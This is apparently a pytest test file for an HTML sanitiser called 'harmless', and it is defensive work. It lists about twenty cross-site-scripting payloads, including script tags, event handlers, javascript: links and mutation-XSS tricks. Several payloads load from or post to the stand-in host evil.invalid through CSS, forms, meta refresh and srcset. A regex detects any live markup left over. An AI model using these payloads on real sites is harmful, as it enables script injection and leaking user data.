"""Hostile markup: what it shows stays, nothing that runs, sends or fetches does."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wiredesk.article.harmless import harmless

_LIVE = re.compile(
    r"<(?:script|iframe|object|embed|form|input|link|meta|base|svg|math|video|audio|template|noscript)\b"
    r"|<[^>]*\s(?:on\w+|href|action|srcset|ping|background|formaction|xlink:href|http-equiv)\s*=",
    re.IGNORECASE,
)
_ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style>@import 'http://evil.invalid'; a{background:u\\72l(http://evil.invalid)}</style>",
    "<p style='background:url(//evil.invalid/x)'>x</p>",
    "<table background='http://evil.invalid/x'><td>x</table>",
    "<form action=//evil.invalid><input name=q><button formaction=//evil.invalid/2>go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'><base href=//evil.invalid>",
    "<link rel=stylesheet href=//evil.invalid/x.css><object data=//evil.invalid></object>",
    "<img srcset='//evil.invalid/2x 2x' src='//evil.invalid/1x' alt='a bridge'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
    "<template><script>alert(1)</script></template><video poster=//evil.invalid/p src=//evil.invalid/v></video>",
    "<body onload=alert(1) background=//evil.invalid>",
    "<x-y onclick=alert(1)>kept words</x-y>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><?xml-stylesheet href='//evil.invalid'?>",
)


@pytest.mark.parametrize("attack", _ATTACKS)
def test_nothing_live_is_left(attack: str) -> None:
    told = harmless(f"<html><body><p>before</p>{attack}<p>behind</p></body></html>")
    assert not _LIVE.search(told)
    assert not re.search(r"url\s*\(|@import", told)
    assert "before" in told


@given(st.lists(st.sampled_from(_ATTACKS) | st.text(st.characters(codec="utf-8", categories=("L", "P", "S", "Z")), max_size=20)))
@settings(max_examples=80, deadline=None)
def test_nothing_live_is_left_of_any_mixture(parts: list[str]) -> None:
    assert not _LIVE.search(harmless("".join(parts)))


def test_words_and_their_order_stay() -> None:
    told = harmless("<h1>Four killed</h1><p class='lead'>The <b>police</b> said.</p><ul><li>one<li>two</ul>")
    assert '<p class="lead">The <b>police</b> said.</p>' in told
    assert told.index("Four killed") < told.index("police") < told.index("two")


def test_a_link_leads_nowhere_and_says_where_it_led() -> None:
    assert '<a title="https://a.example/1">more</a>' in harmless("<a href='https://a.example/1'>more</a>")
    assert '<a title="a link">more</a>' in harmless("<a href='javascript:alert(1)'>more</a>")


def test_a_picture_is_told_by_its_words_unless_the_page_carries_it() -> None:
    assert "[picture: a bridge]" in harmless("<p><img src='https://a.example/1.png' alt='a bridge'></p>")
    carried = "data:image/png;base64,iVBORw0KGgo="
    assert f'src="{carried}"' in harmless(f"<p><img src='{carried}' onload='x()'></p>")


@pytest.mark.parametrize(
    "markup",
    [
        "", " ", "<", "<!doctype html>", "plain words", "<p>" * 3_000, "<b>" * 20_000 + "x", "<p>x</p>" * 200_000,
        "<x>a</x>" * 60_000, "<script></script>a" * 100_000, "<p>" + "<i>a</i>b" * 60_000 + "<u>a</u>b" * 100_000,
        "&#1;<p title='&#x0b;'>x&#xFFFE;</p><a href='https://a.example/&#2;'>y</a><img alt='&#3;'>",
    ],
)  # fmt: skip
def test_odd_and_huge_markup_comes_through_in_time(markup: str) -> None:
    start = time.process_time()
    assert harmless(markup).startswith("<!doctype html>")
    assert time.process_time() - start < 3
